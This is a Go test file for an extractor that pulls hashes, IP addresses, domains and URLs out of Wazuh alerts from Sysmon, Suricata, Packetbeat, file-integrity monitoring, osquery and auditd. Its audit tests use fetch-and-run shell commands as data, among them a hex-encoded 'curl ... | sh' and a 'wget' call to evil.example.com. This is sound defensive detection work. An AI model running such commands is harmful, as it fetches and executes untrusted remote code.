package extract_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/wazuh-opencti/wazuh-opencti/extract"
)

// extractorCase is an alert (JSON) and what Default() must make of it.
type extractorCase struct {
	name    string
	alert   string
	want    []string // describe() of each finding
	invalid []string // "field: reason" of each invalid value
	skipped string   // checked when not ""
}

func runCases(t *testing.T, cases []extractorCase) {
	t.Helper()
	set := extract.Default()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			res := set.Extract(decode(t, tc.alert))
			if diff := cmp.Diff(tc.want, lines(res)); diff != "" {
				t.Errorf("findings (-want +got):\n%s", diff)
			}
			var inv []string
			for _, v := range res.Invalid {
				inv = append(inv, v.Field+": "+v.Reason)
			}
			if diff := cmp.Diff(tc.invalid, inv); diff != "" {
				t.Errorf("invalid (-want +got):\n%s", diff)
			}
			if tc.skipped != "" && res.Skipped != tc.skipped {
				t.Errorf("Skipped = %q, want %q", res.Skipped, tc.skipped)
			}
			for _, f := range res.Findings {
				revalidate(t, f.Observable)
			}
		})
	}
}

const (
	md5Up    = "2395D12C80F09BBB7B574785EECB09AD"
	sha256Up = "4DA46DFB9DFD1F0B4B8E9CFDD02C3ADBDAFC651D738652FE5EDB9A551E92770C"
	md5Lo    = "2395d12c80f09bbb7b574785eecb09ad"
	sha256Lo = "4da46dfb9dfd1f0b4b8e9cfdd02c3adbdafc651d738652fe5edb9a551e92770c"
)

// sysmon builds a Sysmon alert with the rule groups, event ID and
// eventdata members given as JSON text.
func sysmon(groups string, eventID string, eventdata string) string {
	return `{"rule":{"id":"100100","groups":[` + groups + `]},"agent":{"id":"004"},"data":{"win":{"system":{"eventID":"` + eventID +
		`","channel":"Microsoft-Windows-Sysmon/Operational"},"eventdata":{` + eventdata + `}}},"location":"EventChannel"}`
}

func TestSysmonHashesExtractor(t *testing.T) {
	hashes := `"hashes":"SHA1=D693BFD0817FA4B068AC3D12EA9DE3AF770F6268,MD5=` + md5Up + `,SHA256=` + sha256Up + `,IMPHASH=A1047E4874D4C838D66CE7031565558A"`
	full := "sysmon-hashes file data.win.eventdata.hashes file MD5=" + md5Lo + ",SHA-1=d693bfd0817fa4b068ac3d12ea9de3af770f6268,SHA-256=" + sha256Lo
	runCases(t, []extractorCase{
		{name: "group sysmon_event1", alert: sysmon(`"sysmon_event1"`, "1", hashes), want: []string{full}},
		{name: "group sysmon_event_1", alert: sysmon(`"sysmon_event_1"`, "", hashes), want: []string{full}},
		{name: "group sysmon_eid7_detections", alert: sysmon(`"sysmon_eid7_detections"`, "", hashes), want: []string{full}},
		{name: "custom groups, by channel and event ID", alert: sysmon(`"windows","local"`, "6", hashes), want: []string{full}},
		{name: "event 23 file delete", alert: sysmon(`"local"`, "23", hashes), want: []string{full}},
		{name: "event 26 by group", alert: sysmon(`"sysmon_event_26"`, "", hashes), want: []string{full}},
		{name: "sysmon_process-anomalies", alert: sysmon(`"sysmon_process-anomalies"`, "", hashes), want: []string{full}},
		{name: "event 15 uses hash, singular", alert: sysmon(`"sysmon_event_15"`, "15", `"hash":"SHA256=`+sha256Up+`"`),
			want: []string{"sysmon-hashes file data.win.eventdata.hash file SHA-256=" + sha256Lo}},
		{name: "event 11 has no hashes", alert: sysmon(`"sysmon_event_11"`, "11", `"targetFilename":"C:\\\\x.exe"`), skipped: "no extractor found an observable"},
		{name: "event 3 hashes are not read", alert: sysmon(`"sysmon_event3"`, "3", hashes)},
		{name: "not the Sysmon channel", alert: `{"rule":{"groups":["windows"]},"data":{"win":{"system":{"eventID":"1","channel":"Security"},"eventdata":{` + hashes + `}}}}`},
		{name: "group with junk suffix", alert: `{"rule":{"groups":["sysmon_event1x","sysmon_eid_detections","sysmon_event999"]},"data":{"win":{"eventdata":{` + hashes + `}}}}`},
		{name: "malformed hashes", alert: sysmon(`"sysmon_event1"`, "1", `"hashes":"MD5=XYZ,SHA256=`+sha256Up[:60]+`"`),
			invalid: []string{"data.win.eventdata.hashes: file: no MD5, SHA-1, SHA-256 or SHA-512 hash"}},
		{name: "only IMPHASH", alert: sysmon(`"sysmon_event1"`, "1", `"hashes":"IMPHASH=A1047E4874D4C838D66CE7031565558A"`),
			invalid: []string{"data.win.eventdata.hashes: file: no MD5, SHA-1, SHA-256 or SHA-512 hash"}},
		{name: "null string", alert: sysmon(`"sysmon_event1"`, "1", `"hashes":"null"`)},
		{name: "hashes as a number", alert: sysmon(`"sysmon_event1"`, "1", `"hashes":12345`),
			invalid: []string{"data.win.eventdata.hashes: file: no MD5, SHA-1, SHA-256 or SHA-512 hash"}},
		{name: "empty-file hash is dropped", alert: sysmon(`"sysmon_event1"`, "1", `"hashes":"MD5=D41D8CD98F00B204E9800998ECF8427E"`),
			skipped: "dropped by the policy: MD5=d41d8cd98f00b204e9800998ecf8427e (ignored hash MD5)"},
	})
}

func TestSysmonNetworkExtractor(t *testing.T) {
	runCases(t, []extractorCase{
		{name: "public source and destination", alert: sysmon(`"sysmon_event3"`, "3", `"sourceIp":"45.146.165.37","destinationIp":"185.199.108.153"`),
			want: []string{
				"sysmon-network source data.win.eventdata.sourceIp ipv4-addr 45.146.165.37",
				"sysmon-network destination data.win.eventdata.destinationIp ipv4-addr 185.199.108.153",
			}},
		{name: "IPv4-mapped and zone-suffixed", alert: sysmon(`"local"`, "3", `"sourceIp":"fe80::1%12","destinationIp":"::ffff:185.199.108.153"`),
			want:    []string{"sysmon-network destination data.win.eventdata.destinationIp ipv4-addr 185.199.108.153"},
			skipped: ""},
		{name: "IPv6 exploded", alert: sysmon(`"sysmon_eid3_detections"`, "3", `"destinationIp":"2A04:4E42:0000:0000:0000:0000:0000:0069"`),
			want: []string{"sysmon-network destination data.win.eventdata.destinationIp ipv6-addr 2a04:4e42::69"}},
		{name: "address as a number", alert: sysmon(`"sysmon_event3"`, "3", `"destinationIp":3232235777`),
			invalid: []string{"data.win.eventdata.destinationIp: ip address: not an IP address"}},
		{name: "null and dash", alert: sysmon(`"sysmon_event3"`, "3", `"sourceIp":"null","destinationIp":"-"`), skipped: "no extractor found an observable"},
		{name: "placeholders with white space", alert: sysmon(`"sysmon_event3"`, "3", `"sourceIp":" NULL ","destinationIp":"(NULL) "`), skipped: "no extractor found an observable"},
	})
}

func TestSysmonDNSExtractor(t *testing.T) {
	runCases(t, []extractorCase{
		{name: "NXDOMAIN: no queryResults", alert: sysmon(`"sysmon_event_22"`, "22", `"queryName":"c2.example.org","queryStatus":"9003"`),
			want: []string{"sysmon-dns query data.win.eventdata.queryName domain-name c2.example.org"}},
		{name: "queryResults null string", alert: sysmon(`"sysmon_event_22"`, "22", `"queryName":"c2.example.org","queryResults":"null"`),
			want: []string{"sysmon-dns query data.win.eventdata.queryName domain-name c2.example.org"}},
		{name: "trailing dot, case, IDN", alert: sysmon(`"local"`, "22", `"queryName":"Bücher.Example.","queryResults":"type:  5 CDN.Example.NET.;"`),
			want: []string{
				"sysmon-dns query data.win.eventdata.queryName domain-name xn--bcher-kva.example",
				"sysmon-dns answer data.win.eventdata.queryResults domain-name cdn.example.net",
			}},
		{name: "CNAME chain with junk", alert: sysmon(`"sysmon_eid22_detections"`, "22",
			`"queryName":"www.example.com","queryResults":"type:  5 a.example.net;type:  5 b.example.org;junk!!;::ffff:151.101.1.69;10.0.0.1;"`),
			want: []string{
				"sysmon-dns query data.win.eventdata.queryName domain-name www.example.com",
				"sysmon-dns answer data.win.eventdata.queryResults domain-name a.example.net",
				"sysmon-dns answer data.win.eventdata.queryResults domain-name b.example.org",
				"sysmon-dns answer data.win.eventdata.queryResults ipv4-addr 151.101.1.69",
			}},
		{name: "over-long name", alert: sysmon(`"sysmon_event_22"`, "22", `"queryName":"`+strings.Repeat("a", 64)+`.example.com"`),
			invalid: []string{"data.win.eventdata.queryName: domain-name: label longer than 63 octets"}},
		{name: "query name as a number", alert: sysmon(`"sysmon_event_22"`, "22", `"queryName":12345`),
			invalid: []string{"data.win.eventdata.queryName: domain-name: last label is numeric (an address, not a name)"}},
		{name: "reverse lookup ignored", alert: sysmon(`"sysmon_event_22"`, "22", `"queryName":"7.100.51.198.in-addr.arpa"`),
			skipped: "dropped by the policy: 7.100.51.198.in-addr.arpa (ignored domain .in-addr.arpa)"},
	})
}

// suricataEVE builds a Suricata alert from data members given as JSON.
func suricataEVE(data string) string {
	return `{"rule":{"id":"86601","groups":["ids","suricata"]},"agent":{"id":"002"},"decoder":{"name":"json"},"data":{` + data + `},"location":"/var/log/suricata/eve.json"}`
}

func TestSuricataExtractor(t *testing.T) {
	runCases(t, []extractorCase{
		{name: "v2 dns query", alert: suricataEVE(`"event_type":"dns","src_ip":"10.0.0.5","dest_ip":"10.0.0.53","dns":{"type":"query","rrname":"C2.Example.ORG.","rrtype":"A"}`),
			want: []string{"suricata query data.dns.rrname domain-name c2.example.org"}},
		{name: "v2 dns answer, detailed and grouped", alert: suricataEVE(`"event_type":"dns","dns":{"type":"answer","rrname":"www.example.com",
			"answers":[{"rrname":"www.example.com","rrtype":"CNAME","rdata":"edge.example.net"},{"rrname":"edge.example.net","rrtype":"A","rdata":"151.101.1.69"},
			{"rrname":"edge.example.net","rrtype":"AAAA","rdata":"2a04:4e42::69"},{"rrtype":"TXT","rdata":"v=spf1 -all"},{"rrtype":"MX","rdata":"mx.example.com"}],
			"grouped":{"A":["151.101.1.69","151.101.65.69"],"CNAME":["edge.example.net"],"TXT":["x"]}}`),
			want: []string{
				"suricata query data.dns.rrname domain-name www.example.com",
				"suricata answer data.dns.answers domain-name edge.example.net",
				"suricata answer data.dns.answers ipv4-addr 151.101.1.69",
				"suricata answer data.dns.answers ipv6-addr 2a04:4e42::69",
				"suricata answer data.dns.grouped.A ipv4-addr 151.101.65.69",
			}},
		{name: "Suricata 7 alert with dns.query[]", alert: suricataEVE(`"event_type":"alert","src_ip":"10.0.0.5","dest_ip":"10.0.0.53","alert":{"signature":"x"},
			"dns":{"query":[{"type":"query","rrname":"evil.example.com","rrtype":"A"},{"type":"query","rrname":"evil2.example.com"}]}`),
			want: []string{
				"suricata query data.dns.query domain-name evil.example.com",
				"suricata query data.dns.query domain-name evil2.example.com",
			}},
		{name: "NXDOMAIN answer", alert: suricataEVE(`"event_type":"dns","dns":{"type":"answer","rrname":"nx.example.com","rcode":"NXDOMAIN"}`),
			want: []string{"suricata query data.dns.rrname domain-name nx.example.com"}},
		{name: "absolute URL (proxy request)", alert: suricataEVE(`"event_type":"http","http":{"hostname":"dl.example.net","url":"HTTP://DL.Example.net:8080/x"}`),
			want: []string{
				"suricata host data.http.hostname domain-name dl.example.net",
				"suricata url data.http.url url http://dl.example.net:8080/x",
			}},
		{name: "http_port other than 80", alert: suricataEVE(`"event_type":"http","http":{"hostname":"dl.example.net","http_port":"8080","url":"/a?b=c"}`),
			want: []string{
				"suricata host data.http.hostname domain-name dl.example.net",
				"suricata url data.http.url url http://dl.example.net:8080/a?b=c",
			}},
		{name: "IPv6 host", alert: suricataEVE(`"event_type":"http","http":{"hostname":"2a04:4e42::69","http_port":80,"url":"/x"}`),
			want: []string{
				"suricata host data.http.hostname ipv6-addr 2a04:4e42::69",
				"suricata url data.http.url url http://[2a04:4e42::69]/x",
			}},
		{name: "host with port", alert: suricataEVE(`"event_type":"http","http":{"hostname":"dl.example.net:8080","http_port":"8080","url":"/x"}`),
			want: []string{
				"suricata host data.http.hostname domain-name dl.example.net",
				"suricata url data.http.url url http://dl.example.net:8080/x",
			}},
		{name: "HTTP and TLS in the table's order", alert: suricataEVE(`"event_type":"alert","tls":{"sni":"a.example.com"},"http":{"hostname":"b.example.com","url":"/x"}`),
			want: []string{
				"suricata host data.http.hostname domain-name b.example.com",
				"suricata url data.http.url url http://b.example.com/x",
				"suricata host data.tls.sni domain-name a.example.com",
			}},
		{name: "CONNECT and * targets give no URL", alert: suricataEVE(`"event_type":"http","http":{"hostname":"dl.example.net","url":"dl.example.net:443"}`),
			want: []string{"suricata host data.http.hostname domain-name dl.example.net"}},
		{name: "URL without host", alert: suricataEVE(`"event_type":"http","http":{"url":"/x"}`), skipped: "no extractor found an observable"},
		{name: "TLS SNI selected by event_type only", alert: `{"rule":{"id":"100400","groups":["local"]},"data":{"event_type":"tls","flow_id":"1.000000","dest_ip":"104.16.132.229","tls":{"sni":"API.Files.Example.com"}}}`,
			want: []string{
				"suricata destination data.dest_ip ipv4-addr 104.16.132.229",
				"suricata host data.tls.sni domain-name api.files.example.com",
			}},
		{name: "other IDS with srcip/dstip", alert: `{"rule":{"id":"20101","groups":["ids","snort"]},"data":{"srcip":"45.146.165.37:4444","dstip":"10.0.0.1"}}`,
			want: []string{"suricata source data.srcip ipv4-addr 45.146.165.37"}},
		{name: "fileinfo upper case and a bad hash", alert: suricataEVE(`"event_type":"fileinfo","fileinfo":{"md5":"` + md5Up + `","sha1":"nothex","sha256":"` + sha256Up + `"}`),
			want:    []string{"suricata file data.fileinfo file MD5=" + md5Lo + ",SHA-256=" + sha256Lo},
			invalid: []string{"data.fileinfo.sha1: hash: SHA-1 needs 40 hex digits, got 6 characters"}},
		{name: "numbers where strings are expected", alert: suricataEVE(`"event_type":"alert","src_ip":167772161,"dest_ip":true,"tls":{"sni":42}`),
			invalid: []string{
				"data.src_ip: ip address: not an IP address",
				"data.dest_ip: ip address: not an IP address",
				"data.tls.sni: domain-name: last label is numeric (an address, not a name)",
			}},
		{name: "private only", alert: suricataEVE(`"event_type":"alert","src_ip":"10.0.0.1","dest_ip":"192.168.0.1"`),
			skipped: "dropped by the policy: 10.0.0.1 (private 10.0.0.0/8), 192.168.0.1 (private 192.168.0.0/16)"},
		{name: "CIDR in an address field", alert: suricataEVE(`"event_type":"alert","src_ip":"45.146.165.0/24"`),
			want: []string{"suricata source data.src_ip ipv4-addr 45.146.165.0/24"}},
	})
}

func TestPacketbeatDNSExtractor(t *testing.T) {
	runCases(t, []extractorCase{
		{name: "question and answers", alert: `{"rule":{"id":"100500","groups":["ids","packetbeat"]},"data":{"type":"dns","method":"QUERY",
			"client":{"ip":"10.0.0.5"},"dns":{"question":{"name":"www.Example.com."},"answers":[
			{"name":"www.example.com","type":"CNAME","data":"edge.example.net"},{"name":"edge.example.net","type":"A","data":"151.101.1.69"},
			{"type":"AAAA","data":"2a04:4e42::69"},{"type":"MX","data":"mx.example.com"},{"type":"A","data":"10.0.0.1"}]}}}`,
			want: []string{
				"packetbeat-dns query data.dns.question.name domain-name www.example.com",
				"packetbeat-dns answer data.dns.answers domain-name edge.example.net",
				"packetbeat-dns answer data.dns.answers ipv4-addr 151.101.1.69",
				"packetbeat-dns answer data.dns.answers ipv6-addr 2a04:4e42::69",
			}},
		{name: "NXDOMAIN", alert: `{"rule":{"groups":["packetbeat"]},"data":{"method":"query","dns":{"question":{"name":"nx.example.org"},"response_code":"NXDOMAIN"}}}`,
			want: []string{"packetbeat-dns query data.dns.question.name domain-name nx.example.org"}},
	})
}

// fimAlert builds a FIM alert with the groups and syscheck members given.
func fimAlert(groups, syscheck string) string {
	return `{"rule":{"id":"550","groups":[` + groups + `]},"agent":{"id":"003"},"syscheck":{` + syscheck + `},"location":"syscheck"}`
}

func TestFIMExtractor(t *testing.T) {
	file := "fim file syscheck file MD5=" + md5Lo + ",SHA-256=" + sha256Lo
	runCases(t, []extractorCase{
		{name: "modified, upper case", alert: fimAlert(`"ossec","syscheck","syscheck_entry_modified","syscheck_file"`,
			`"path":"/usr/bin/x","event":"modified","md5_before":"`+strings.Repeat("1", 32)+`","md5_after":"`+md5Up+`","sha256_after":"`+sha256Up+`"`),
			want: []string{file}},
		{name: "custom rule: location syscheck", alert: fimAlert(`"local"`, `"path":"/usr/bin/x","event":"added","md5_after":"`+md5Lo+`","sha256_after":"`+sha256Lo+`"`),
			want: []string{file}},
		{name: "event from the groups", alert: fimAlert(`"syscheck_entry_added","syscheck_file"`, `"path":"/usr/bin/x","md5_after":"`+md5Lo+`","sha256_after":"`+sha256Lo+`"`),
			want: []string{file}},
		{name: "invalid hash reported, others kept", alert: fimAlert(`"syscheck_file"`, `"path":"/x","event":"added","md5_after":"`+md5Lo+`","sha1_after":"xyz","sha256_after":"`+sha256Lo+`"`),
			want: []string{file}, invalid: []string{"syscheck.sha1_after: hash: SHA-1 needs 40 hex digits, got 3 characters"}},
		{name: "empty file", alert: fimAlert(`"syscheck_file"`, `"path":"/tmp/empty","event":"added","size_after":"0","md5_after":"d41d8cd98f00b204e9800998ecf8427e","sha1_after":"da39a3ee5e6b4b0d3255bfef95601890afd80709","sha256_after":"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"`),
			skipped: "dropped by the policy: MD5=d41d8cd98f00b204e9800998ecf8427e (ignored hash MD5)"},
		{name: "deleted", alert: fimAlert(`"syscheck_entry_deleted","syscheck_file"`, `"path":"/x","event":"deleted","md5_after":"`+md5Lo+`"`),
			skipped: "fim: deleted files are not looked up"},
		{name: "registry value", alert: fimAlert(`"ossec","syscheck","syscheck_entry_modified","syscheck_registry_value"`,
			`"path":"HKEY_LOCAL_MACHINE\\System\\CurrentControlSet\\Services\\x","value_name":"ImagePath","arch":"[x64]","event":"modified","md5_after":"`+md5Lo+`","sha256_after":"`+sha256Lo+`"`),
			skipped: "fim: registry entries are not files"},
		{name: "registry path without registry groups", alert: fimAlert(`"syscheck_file"`, `"path":"hkey_local_machine\\software\\x","event":"added","md5_after":"`+md5Lo+`"`),
			skipped: "fim: registry entries are not files"},
		{name: "null hashes", alert: fimAlert(`"syscheck_file"`, `"path":"/x","event":"added","md5_after":"null","sha256_after":""`),
			skipped: "no extractor found an observable"},
	})
}

// osqueryAlert builds an osquery alert with the osquery members given.
func osqueryAlert(osq string) string {
	return `{"rule":{"id":"24010","groups":["osquery"]},"agent":{"id":"003"},"decoder":{"name":"json"},"data":{"osquery":{` + osq + `}},"location":"osquery"}`
}

func TestOsqueryExtractor(t *testing.T) {
	runCases(t, []extractorCase{
		{name: "socket columns", alert: osqueryAlert(`"name":"pack_sockets","action":"added","columns":{"pid":"42","remote_address":"185.199.108.153","local_address":"10.40.20.3","remote_port":"443"}`),
			want: []string{"osquery address data.osquery.columns.remote_address ipv4-addr 185.199.108.153"}},
		{name: "upper-case hashes", alert: osqueryAlert(`"action":"added","columns":{"md5":"` + md5Up + `","sha256":"` + sha256Up + `"}`),
			want: []string{"osquery file data.osquery.columns file MD5=" + md5Lo + ",SHA-256=" + sha256Lo}},
		{name: "snapshot rows", alert: osqueryAlert(`"action":"snapshot","snapshot":[{"remote_address":"185.199.108.153"},{"remote_address":"::ffff:151.101.1.69"},{"address":"0.0.0.0"}]`),
			want: []string{
				"osquery address data.osquery.snapshot.remote_address ipv4-addr 185.199.108.153",
				"osquery address data.osquery.snapshot.remote_address ipv4-addr 151.101.1.69",
			}},
		{name: "removed", alert: osqueryAlert(`"action":"removed","columns":{"remote_address":"185.199.108.153"}`),
			skipped: "osquery: rows removed from a result are not looked up"},
		{name: "selected by location only", alert: `{"rule":{"groups":["local"]},"data":{"osquery":{"columns":{"address":"2a04:4e42::69"}}},"location":"osquery"}`,
			want: []string{"osquery address data.osquery.columns.address ipv6-addr 2a04:4e42::69"}},
	})
}

// auditAlert builds an audit_command alert with the execve members given.
func auditAlert(execve string) string {
	return `{"rule":{"id":"80792","groups":["audit","audit_command"]},"agent":{"id":"003"},"data":{"audit":{"type":"EXECVE","execve":{` + execve + `}}},"location":"/var/log/audit/audit.log"}`
}

func TestAuditURLsExtractor(t *testing.T) {
	hexCmd := strings.ToUpper(hexOf("curl -s 'https://evil.example.com/x.sh?a=1' | sh"))
	runCases(t, []extractorCase{
		{name: "scheme in any case", alert: auditAlert(`"a0":"wget","a1":"-q","a2":"HTTP://EVIL.Example.com/x.sh"`),
			want: []string{
				"audit-urls url data.audit.execve.a2 url http://evil.example.com/x.sh",
				"audit-urls url-host data.audit.execve.a2 domain-name evil.example.com",
			}},
		{name: "hex-encoded shell command", alert: auditAlert(`"a0":"sh","a1":"-c","a2":"` + hexCmd + `"`),
			want: []string{
				"audit-urls url data.audit.execve.a2 url https://evil.example.com/x.sh?a=1",
				"audit-urls url-host data.audit.execve.a2 domain-name evil.example.com",
			}},
		{name: "option with =", alert: auditAlert(`"a0":"curl","a1":"--url=ftp://203.0.113.9/p"`),
			skipped: "dropped by the policy: ftp://203.0.113.9/p (host documentation 203.0.113.0/24), 203.0.113.9 (documentation 203.0.113.0/24)"},
		{name: "arguments in number order", alert: auditAlert(`"a10":"https://ten.example.com/","a2":"https://two.example.com/"`),
			want: []string{
				"audit-urls url data.audit.execve.a2 url https://two.example.com/",
				"audit-urls url-host data.audit.execve.a2 domain-name two.example.com",
				"audit-urls url data.audit.execve.a10 url https://ten.example.com/",
				"audit-urls url-host data.audit.execve.a10 domain-name ten.example.com",
			}},
		{name: "not URLs", alert: auditAlert(`"a0":"cat","a1":"/etc/http://x","a2":"file:///etc/passwd","a3":"javascript://x","a4":"http:/x","a5":"://x","a6":"httpx://y.example.com","a7":"x.http://y.example.com","a8":"(http://z.example.com)"`),
			want: []string{
				"audit-urls url data.audit.execve.a8 url http://z.example.com",
				"audit-urls url-host data.audit.execve.a8 domain-name z.example.com",
			}},
		{name: "nothing", alert: auditAlert(`"a0":"ls","a1":"-l"`),
			skipped: "no extractor found an observable"},
		{name: "invalid URL reported", alert: auditAlert(`"a0":"curl","a1":"http://exa%mple.com/"`),
			invalid: []string{"data.audit.execve.a1: url: not a URL"}},
	})
}

func TestGenericExtractor(t *testing.T) {
	runCases(t, []extractorCase{
		{name: "sshd srcip", alert: `{"rule":{"id":"5710","groups":["syslog","sshd"]},"data":{"srcip":"2a01:4f8:c17:1b2e::1","srcport":"52311"}}`,
			want: []string{"generic-addresses source data.srcip ipv6-addr 2a01:4f8:c17:1b2e::1"}},
		{name: "all four, with ports and brackets", alert: `{"rule":{"groups":["web"]},"data":{"srcip":"45.146.165.37:4444","dstip":"[2a04:4e42::69]:443","src_ip":"185.199.108.153","dest_ip":"45.146.165.37"}}`,
			want: []string{
				"generic-addresses source data.srcip ipv4-addr 45.146.165.37",
				"generic-addresses destination data.dstip ipv6-addr 2a04:4e42::69",
				"generic-addresses source data.src_ip ipv4-addr 185.199.108.153",
			}},
		{name: "array of addresses", alert: `{"rule":{"groups":["firewall"]},"data":{"srcip":["45.146.165.37","10.0.0.1",null,"bogus"]}}`,
			want:    []string{"generic-addresses source data.srcip ipv4-addr 45.146.165.37"},
			invalid: []string{"data.srcip: ip address: not an IP address"}},
		{name: "no data", alert: `{"rule":{"id":"502","groups":["ossec"]},"location":"wazuh-monitord"}`, skipped: "no extractor found an observable"},
	})
}

func hexOf(s string) string {
	const digits = "0123456789abcdef"
	b := make([]byte, 0, 2*len(s))
	for i := 0; i < len(s); i++ {
		b = append(b, digits[s[i]>>4], digits[s[i]&0xf])
	}
	return string(b)
}
